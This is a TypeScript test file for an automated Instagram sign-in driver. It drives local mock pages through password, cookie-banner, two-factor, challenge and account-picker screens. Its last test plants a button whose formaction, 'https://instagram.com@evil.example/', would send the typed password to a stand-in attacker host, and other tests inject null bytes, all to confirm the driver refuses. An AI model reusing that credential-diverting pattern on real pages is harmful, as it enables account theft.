/** Pages that the sandbox lacks, served over HTTP and driven in a real Chromium. */
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, it } from 'vitest';
import { lendChromium } from '#/testing/shared-chromium.ts';
import { createInstagramBrowser } from './create-instagram-browser.ts';
import type { SignInInput, SignInOutcome } from './model.ts';

const FORM =
  '<input name="username" aria-label="Name"><input name="password" type="password"><button type="submit">Log in</button>';
const HOME = '<nav><a href="/direct/inbox/">Inbox</a><a href="/explore/">Explore</a></nav><p>Feed</p>';
const SIGNED_IN = ['sessionid=1; Path=/', 'ds_user_id=42; Path=/'];

type Site = { page(request: IncomingMessage, response: ServerResponse): string };

/** Signs in at a site of one function. `posts` counts its POSTs. */
async function visit(
  site: Site,
  input: Partial<SignInInput> = {},
): Promise<{ outcome: SignInOutcome; screens: string[]; posts: number }> {
  let posts = 0;
  const server = createServer((request, response) => {
    if (request.method === 'POST') posts += 1;
    request.resume().on('end', () => {
      response.setHeader('Content-Type', 'text/html; charset=utf-8');
      response.end(site.page(request, response));
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  const screens: string[] = [];
  const browser = createInstagramBrowser({ origin, executablePath: null, now: () => new Date(), launch: lendChromium });
  try {
    const outcome = await browser.signIn({
      username: 'ada',
      password: 'canary-Passw0rd',
      totp: null,
      identity: null,
      userAgent: null,
      signal: new AbortController().signal,
      capMs: 240_000,
      beforePassword: async () => true,
      onStep: async (step) => void screens.push(step.screen),
      ask: async () => ({ kind: 'gave_up' }),
      ...input,
    });
    return { outcome, screens, posts };
  } finally {
    server.closeAllConnections();
    server.close();
  }
}

/** A form that a script sends, as on the site, and that shows what `show` makes of the answer. */
function scripted(show: string): string {
  return `<form>${FORM}</form><p id="said"></p><script>document.forms[0].onsubmit = async (event) => {
    event.preventDefault();
    const answer = await fetch('/api/v1/web/accounts/login/ajax/', { method: 'POST', body: new URLSearchParams({ username: 'ada' }) });
    const body = await answer.json(); ${show} };</script>`;
}

it('understands a refusal in a language that it does not know, by the answer on the wire', async () => {
  const { outcome, posts } = await visit({
    page: ({ method }, response) => {
      if (method !== 'POST')
        return scripted(`document.getElementById('said').textContent = 'Rất tiếc, mật khẩu của bạn không đúng.'`);
      response.setHeader('Content-Type', 'application/json');
      return '{"authenticated":false,"user":true,"status":"ok"}';
    },
  });

  expect(outcome).toMatchObject({ ok: false, reason: 'wrong_password', passwordPosts: 1 });
  expect(posts).toBe(1);
});

it('signs in on a form that changes the page in place, over a banner that came late', async () => {
  const banner =
    '<div id="veil" style="position:fixed;inset:0;background:#fff" role="dialog"><button>Allow all cookies</button><button>Decline optional cookies</button></div>';
  const late = `document.querySelector('input[name=password]').addEventListener('input', () => {
    if (document.getElementById('veil')) return;
    document.body.insertAdjacentHTML('beforeend', ${JSON.stringify(banner)});
    for (const button of document.querySelectorAll('#veil button')) button.onclick = () => document.getElementById('veil').remove(); });`;
  const { outcome, posts } = await visit({
    page: ({ method }, response) => {
      if (method !== 'POST')
        return `${scripted(`document.body.innerHTML = ${JSON.stringify(HOME)}; history.pushState({}, '', '/');`)}<script>${late}</script>`;
      response.setHeader('Set-Cookie', SIGNED_IN).setHeader('Content-Type', 'application/json');
      return '{"authenticated":true,"user":true,"status":"ok"}';
    },
  });

  expect(outcome).toMatchObject({ ok: true, passwordPosts: 1, instagramId: 42n });
  expect(posts).toBe(1);
});

it('does not take a page with navigation for signed in while the cookies are missing', async () => {
  const { outcome } = await visit({
    page: (_request, response) => {
      response.setHeader('Set-Cookie', ['sessionid=1; Path=/']);
      return HOME;
    },
  });

  expect(outcome).toMatchObject({ ok: false, reason: 'unknown_screen', screen: 'home' });
});

it('does not take both cookies for signed in while the form is shown', async () => {
  const { outcome, screens } = await visit(
    {
      page: (_request, response) => {
        response.setHeader('Set-Cookie', SIGNED_IN);
        return `<form method="post">${FORM}</form>`;
      },
    },
    { password: null },
  );

  expect(screens).toEqual(['sign_in_form']);
  expect(outcome).toMatchObject({ ok: false, reason: 'no_password' });
});

it('takes a page that does nothing for slow, not for one that only a person can answer, while no password was sent', async () => {
  const banner = '<button>Allow all cookies</button><button>Decline optional cookies</button>';
  const { outcome, posts } = await visit({ page: () => `<form method="post">${FORM}</form>${banner}` });

  expect(outcome).toMatchObject({ ok: false, reason: 'timed_out', screen: 'cookie_banner', passwordPosts: 0 });
  expect(posts).toBe(0);
});

it('never sends the password again to a form that came back without a word', async () => {
  const { outcome, posts } = await visit({ page: () => `<form method="post">${FORM}</form>` });

  expect(outcome).toMatchObject({ ok: false, reason: 'unknown_screen', screen: 'sign_in_form', passwordPosts: 1 });
  expect(posts).toBe(1);
});

it('waits for a page that is still being built', async () => {
  const { outcome } = await visit(
    {
      page: () =>
        `<div id="root"></div><script>setTimeout(() => { root.innerHTML = ${JSON.stringify(`<form method="post">${FORM}</form>`)} }, 1200)</script>`,
    },
    { beforePassword: async () => false },
  );

  expect(outcome).toMatchObject({ ok: false, reason: 'submissions_used_up', screen: 'sign_in_form' });
});

it('waits for the answer to a second code while the refusal of the first still stands there', async () => {
  const page = `<h1>Enter the code from your authentication app</h1><input name="verificationCode" maxlength="6"><button>Confirm</button><p role="alert" id="said"></p>
    <script>let sent = 0; document.querySelector('button').onclick = () => { sent += 1; document.querySelector('button').textContent = 'Confirm…';
      setTimeout(() => { document.querySelector('button').textContent = 'Confirm';
        if (sent === 1) said.textContent = 'Please check the security code and try again.';
        else { document.cookie = 'sessionid=1; path=/'; document.cookie = 'ds_user_id=42; path=/'; document.body.innerHTML = ${JSON.stringify(HOME)}; } }, 700); };</script>`;
  const codes = ['111111', '222222', '333333'];

  const { outcome } = await visit({ page: () => page }, { totp: () => codes.shift() ?? '444444' });

  expect(outcome).toMatchObject({ ok: true, rung: 'second_factor' });
  expect(codes).toEqual(['333333']);
});

it('chooses a way that is drawn by its label alone, on a page that was built anew while somebody was asked', async () => {
  const picker = `<form id="pick"><label><input type="radio" name="way" value="a" style="display:none" checked> Email</label>
    <label><input type="radio" name="way" value="b" style="display:none"> Text message</label><button type="button" onclick="go()">Continue</button></form>
    <script>const go = () => location.href = '/auth_platform/codeentry/?way=' + new FormData(pick).get('way')</script>`;
  const entry = (
    way: string | null,
  ) => `<h2>Check your ${way === 'b' ? 'text messages' : 'email'}</h2><div id="more"></div>
    <input name="code" aria-label="Code"><button type="button" onclick="go()">Continue</button><a href="/auth_platform/challengepicker/">Try another way</a>
    <script>const go = () => { document.cookie = 'sessionid=1; path=/'; document.cookie = 'ds_user_id=42; path=/'; location.href = '/home/'; };
    const grow = async () => { if (await (await fetch('/grown/')).text() === 'yes') more.innerHTML = '<button type="button">Get a new code</button>'; else setTimeout(grow, 50); };
    grow();</script>`;
  const asked: string[] = [];
  let grown = 'no';

  const { outcome } = await visit(
    {
      page({ url = '' }) {
        const { pathname, searchParams } = new URL(url, 'http://site');
        if (pathname === '/home/') return HOME;
        if (pathname === '/grown/') return grown;
        return pathname.includes('challengepicker') ? picker : entry(searchParams.get('way'));
      },
    },
    {
      async ask({ kind }, { picture }) {
        asked.push(kind);
        if (kind === 'email_code') return { kind: 'switch', method: 'text_code' };
        const before = await picture();
        grown = 'yes';
        await expect.poll(async () => Buffer.compare(await picture(), before)).not.toBe(0);
        return { kind: 'code', code: '123456' };
      },
    },
  );

  expect(asked).toEqual(['email_code', 'text_code']);
  expect(outcome).toMatchObject({ ok: true, rung: 'challenge' });
});

it('takes its own profile among similar ones, and none of the buttons that take it away', async () => {
  const tiles = ['ada2', 'ada.old', 'ada'].map((name) => `<button name="who" value="${name}">${name}</button>`);
  const remove = '<button name="remove" value="ada" aria-label="Remove ada from this device"></button>';
  const { outcome } = await visit({
    page: ({ method, url, headers }, response) => {
      const isSignedIn = headers.cookie?.includes('ds_user_id') === true;
      if (method === 'POST') response.writeHead(302, { Location: '/choose/' });
      if (url?.includes('who=ada&') || url?.endsWith('who=ada'))
        response.writeHead(302, { Location: '/', 'Set-Cookie': SIGNED_IN });
      if (url?.startsWith('/choose/'))
        return `<h2>Choose an account</h2><form action="/taken/">${remove}${tiles.join('')}</form>`;
      if (url?.startsWith('/taken/')) return 'another one';
      return isSignedIn ? HOME : `<form method="post">${FORM}</form>`;
    },
  });

  expect(outcome).toMatchObject({ ok: true, passwordPosts: 1 });
});

it('sees nothing that the database could not hold, whatever a script writes into the page', async () => {
  const seen: (string | null)[] = [];
  await visit(
    {
      page: () => `<h2>Check your email</h2><p id="to"></p><input name="code" aria-label="Code"><button>Continue</button>
        <script>document.getElementById('to').textContent = 'We sent it to m\\u0000***s@example.org \\ud800'</script>`,
    },
    {
      onStep: async ({ outline, note }) => void seen.push(outline, note),
      ask: async (question) => {
        seen.push(JSON.stringify(question), question.sentTo);
        return { kind: 'gave_up' };
      },
    },
  );

  expect(seen).toContain('m***s@example.org');
  for (const text of seen) expect(text ?? '').not.toMatch(/\0|\\u0000|\\ud800/);
});

it('types nothing where a button outside of the form sends it elsewhere', async () => {
  const elsewhere = '<button form="login" formaction="https://instagram.com@evil.example/" type="submit">Go</button>';
  const { outcome, posts } = await visit({ page: () => `<form method="post" id="login">${FORM}</form>${elsewhere}` });

  expect(outcome).toMatchObject({ ok: false, reason: 'foreign_host', passwordPosts: 0 });
  expect(posts).toBe(0);
});
